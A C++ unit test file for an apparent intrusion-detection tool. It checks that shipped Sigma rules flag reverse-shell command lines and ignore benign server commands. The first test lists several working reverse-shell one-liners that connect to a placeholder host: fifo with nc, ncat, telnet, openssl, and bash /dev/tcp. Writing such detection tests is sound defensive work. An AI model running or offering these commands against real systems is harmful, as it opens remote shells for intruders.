// The rules that come with the package, by command lines that they are for, and by such as honest
// servers have.
#include <gtest/gtest.h>

#include <map>

#include "base/limits.h"
#include "base/os.h"
#include "sigma/compile.h"
#include "sigma/match.h"

namespace underseer::sigma {

namespace {

struct Started {
    const char *rule, *comm, *command_line;
    const char* parent = "/usr/sbin/init";
};

const Matcher& shipped(const std::string& rule) {
    static std::map<std::string, Matcher> all;
    const auto [at, fresh] = all.try_emplace(rule);
    if (!fresh) return at->second;
    const std::string path = std::string(UNDERSEER_SOURCE_DIR "/packaging/rules/") + rule + ".yml";
    const auto text = read_file(path, limits::kMaxSigmaFileBytes);
    EXPECT_TRUE(text.has_value()) << path;
    RuleSet set;
    if (text.has_value()) set.add(path, *text);
    for (const Refusal& refusal : set.refused) ADD_FAILURE() << path << ": " << refusal.message;
    auto matcher = Matcher::of(std::move(set.rules));
    EXPECT_TRUE(matcher.has_value());
    if (matcher.has_value()) at->second = std::move(*matcher);
    return at->second;
}

bool is_told(const Started& started) {
    Event event;
    event[Field::image] = Value::of(std::string("/usr/bin/") + started.comm);
    event[Field::comm] = Value::of(started.comm);
    event[Field::command_line] = Value::of(started.command_line);
    event[Field::parent_image] = Value::of(started.parent);
    event[Field::parent_command_line] = Value::of(started.parent);
    event[Field::user] = Value::of("root");
    return !shipped(started.rule).judge(event).rules.empty();
}

TEST(ShippedRules, TellOfWhatTheyAreFor) {
    const Started kAll[] = {
        {"reverse_shell_fifo", "sh",
         "sh -c mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 443 > /tmp/f"},
        {"reverse_shell_fifo", "bash",
         "bash -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/bash -i 2>&1|/usr/bin/ncat 192.0.2.1 1 "
         ">/tmp/f"},
        {"reverse_shell_fifo", "sh",
         "sh -c mknod /tmp/b p; telnet 192.0.2.1 443 0</tmp/b | /bin/bash 1>/tmp/b"},
        {"reverse_shell_fifo", "sh",
         "sh -c mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect "
         "192.0.2.1:443 > /tmp/s"},
        {"reverse_shell_bash", "bash", "bash -c bash -i >& /dev/tcp/192.0.2.1/443 0>&1"},
        {"reverse_shell_bash", "bash", "bash -c exec 5<>/dev/tcp/192.0.2.1/443; sh -i <&5 >&5"},
        {"reverse_shell_bash", "sh", "sh -c /bin/bash -i>&/dev/udp/192.0.2.1/53 <&1"},
    };
    for (const Started& one : kAll)
        EXPECT_TRUE(is_told(one)) << one.rule << ": " << one.command_line;
}

TEST(ShippedRules, SayNothingOfWhatHonestServersDo) {
    const Started kAll[] = {
        {"reverse_shell_fifo", "sh",
         "/bin/sh -c mkfifo /tmp/log && (cat /tmp/log | tee /var/log/x &) && rsync -a /src/ /dst/"},
        {"reverse_shell_fifo", "sh",
         "/bin/sh -c mkfifo -m 600 /tmp/logpipe && cat <> /tmp/logpipe 1>&2 & sync && exec gosu x "
         "foo | cat"},
        {"reverse_shell_fifo", "sh",
         "sh -c mkfifo /tmp/p; until nc -z db 5432; do sleep 1; done; cat /tmp/p | logger -t x"},
        {"reverse_shell_fifo", "sh", "sh -c mkfifo /tmp/p && cat < /tmp/p | nc logs 514"},
        {"reverse_shell_bash", "ssh",
         "ssh -i /root/.ssh/id web1 timeout 3 bash -c '</dev/tcp/10.0.0.5/5432'"},
        {"reverse_shell_bash", "bash",
         "bash -c until (exec 3<>/dev/tcp/db/5432); do sleep 1; done; bash -it"},
    };
    for (const Started& one : kAll)
        EXPECT_FALSE(is_told(one)) << one.rule << ": " << one.command_line;
}

}  // namespace

}  // namespace underseer::sigma
